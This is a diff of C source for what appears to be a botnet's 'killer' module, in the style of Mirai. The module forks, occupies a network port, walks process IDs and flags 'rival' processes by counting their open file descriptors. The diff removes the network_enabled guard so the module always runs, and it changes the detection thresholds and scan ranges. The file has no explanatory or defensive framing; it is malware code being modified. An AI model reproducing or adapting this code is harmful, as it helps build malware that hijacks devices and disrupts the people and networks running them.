@@ -61,7 +61,7 @@ static int open_descriptors(char *path)
     char link[64];
     int fd, count = 0, end = util_strlen(path);
     path[end] = '/';
-    for (fd = 0; fd < 100; fd++) {
+    for (fd = 0; fd < 16; fd++) {
         util_itoa(fd, 10, path + end + 1);
         if (readlink(path, link, sizeof(link)) > 0)
             count++;
@@ -93,7 +93,7 @@ static int inspect_process(int pid)
     STRING_OPEN(KILLER_FD);
     process_path(path, pid, STRING_GET(KILLER_FD, NULL));
     STRING_CLOSE(KILLER_FD);
-    rival |= open_descriptors(path) > 64;
+    rival |= open_descriptors(path) > 12;
     STRING_OPEN(KILLER_STATUS);
     process_path(path, pid, STRING_GET(KILLER_STATUS, NULL));
     STRING_CLOSE(KILLER_STATUS);
@@ -118,11 +118,11 @@ static void occupy_port(port_t port)
 void killer_init(void)
 {
     int pid, rivals = 0;
-    if (!network_enabled || fork() != 0)
+    if (fork() != 0)
         return;
     occupy_port(NETWORK_PORT(KILLER_PORT));
     scan_buffer = malloc(4096);
-    for (pid = 400; pid < 2048; pid++)
+    for (pid = 400; pid < 432; pid++)
         if (pid != getpid() && pid != getppid())
             rivals += inspect_process(pid);
     free(scan_buffer);
